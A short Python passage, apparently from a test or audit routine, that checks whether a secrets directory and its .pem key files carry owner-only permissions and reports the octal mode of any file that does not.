    top = pathlib.Path(rig.cove.home) / "secrets"
    need(top.is_dir(), "no secrets directory")
    for path in [top, *top.rglob("*")]:
        need(path.stat().st_mode & 0o077 == 0, f"{path} is {path.stat().st_mode & 0o777:o}")
    for path in pathlib.Path(rig.cove.home).glob("door/*/*.pem"):
        need(path.stat().st_mode & 0o077 == 0, f"{path} is {path.stat().st_mode & 0o777:o}")
